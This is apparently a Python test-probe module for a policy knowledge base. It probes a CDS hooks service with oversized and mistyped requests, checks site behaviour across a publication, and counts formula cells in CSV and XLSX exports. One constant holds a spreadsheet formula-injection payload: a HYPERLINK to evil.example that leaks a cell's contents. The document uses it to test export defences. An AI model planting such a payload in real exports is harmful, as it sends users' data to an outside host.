"""Probes of the second hostile-input round (issue #28) that ``kb reliability`` prints: the CDS
service under a large or mistyped request, the site across a publication, and exports of a
criterion that begins as a spreadsheet formula.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import time
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from kb.bench.latency import HOOK
from kb.surfaces.api import KnowledgeBase, bundled_policy_paths
from kb.surfaces.export import export_csv, export_xlsx
from kb.surfaces.site.cds import MAX_BODY_BYTES
from kb.surfaces.site.queries import METADATA

ROOT = Path(__file__).resolve().parents[2]
LATER = ROOT / "tests" / "fixtures" / "CP.PHAR.359_12.25-constructed.txt"
SIGN = "/cds-services/policy-as-data-order-sign"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'


def site(database: Path) -> Any:
    """The Datasette site of ``database`` with the project's metadata, in process."""
    from datasette.app import Datasette

    metadata = json.loads(METADATA.read_text(encoding="utf-8"))
    return Datasette(immutables=[str(database)], metadata=metadata)


def hook_with_orders(count: int) -> bytes:
    """The Besponsa order-sign request with its draft order repeated ``count`` times."""
    hook = json.loads(HOOK.read_text(encoding="utf-8"))
    hook["context"]["draftOrders"]["entry"] = hook["context"]["draftOrders"]["entry"][:1] * count
    return json.dumps(hook).encode()


@dataclass(frozen=True)
class CdsProbe:
    too_large: int
    plain_text: int
    body_bytes: int
    hook_seconds: float
    home_seconds: float


async def _cds(datasette: Any, orders: int) -> CdsProbe:
    json_type = {"content-type": "application/json"}
    await datasette.invoke_startup()
    large = await datasette.client.post(SIGN, content=hook_with_orders(MAX_BODY_BYTES // 500), headers=json_type)
    text = await datasette.client.post(SIGN, content=HOOK.read_bytes(), headers={"content-type": "text/plain"})
    body = hook_with_orders(orders)
    start = time.perf_counter()

    async def hook() -> float:
        await datasette.client.post(SIGN, content=body, headers=json_type)
        return time.perf_counter() - start

    async def home() -> float:
        await asyncio.sleep(0.05)
        await datasette.client.get("/")
        return time.perf_counter() - start

    hook_seconds, home_seconds = await asyncio.gather(hook(), home())
    return CdsProbe(large.status_code, text.status_code, len(body), hook_seconds, home_seconds)


def cds_probe(database: Path, orders: int = 400) -> CdsProbe:
    """A body over the limit, a text/plain body, and ``GET /`` sent while a large hook request is decided."""
    return asyncio.run(_cds(site(database), orders))


def held_deleted(path: Path) -> list[str]:
    """The files this process holds open that were at ``path`` and have been deleted."""
    found = []
    for descriptor in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{descriptor}")
        except OSError:
            continue
        if target == f"{path} (deleted)":
            found.append(target)
    return found


async def newest_labels(datasette: Any, database: str = "kb") -> tuple[str, str]:
    """The newest version label on a canned query (Datasette's) and on the home page (the project's)."""
    timeline = await datasette.client.get(f"/{database}/version_timeline.json?policy=CP.PHAR.359&_shape=array")
    canned = max(row["label"] for row in timeline.json())
    home = await datasette.client.get("/")
    return canned, max(re.findall(r"V\d{4}-\d{2}", home.text))


@dataclass(frozen=True)
class Publication:
    before: tuple[str, str]
    after: tuple[str, str]
    held: list[str]


def publication(folder: Path) -> Publication:
    """The newest version on a canned query and on the home page before and after a load publishes
    a later document while the site serves, and the replaced files still held open."""
    database = folder / "kb.sqlite"
    KnowledgeBase(database).load()
    datasette = site(database)

    async def run() -> Publication:
        await datasette.invoke_startup()
        before = await newest_labels(datasette)
        KnowledgeBase(database).load([*bundled_policy_paths(), LATER])
        return Publication(before, await newest_labels(datasette), held_deleted(database))

    return asyncio.run(run())


def formula_cells(kb: KnowledgeBase, policy: str = "CP.PHAR.359") -> tuple[int, int]:
    """(xlsx cells stored as formulas, CSV cells that begin as one) in the exports of the policy
    whose criterion I.A.1 is ``FORMULA``."""
    answer = kb.as_of(policy, "2025-12-01")
    criteria = [{**r, "text": FORMULA} if r["item_id"] == "I.A.1" else r for r in answer.criteria()]
    hostile = replace(answer, records={**answer.records, "criterion": criteria})
    book = load_workbook(io.BytesIO(export_xlsx(hostile)))
    formulas = sum(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    rows = csv.reader(io.StringIO(export_csv(hostile)))
    risky = sum(cell[:1] in ("=", "+", "@") for row in rows for cell in row)
    return formulas, risky
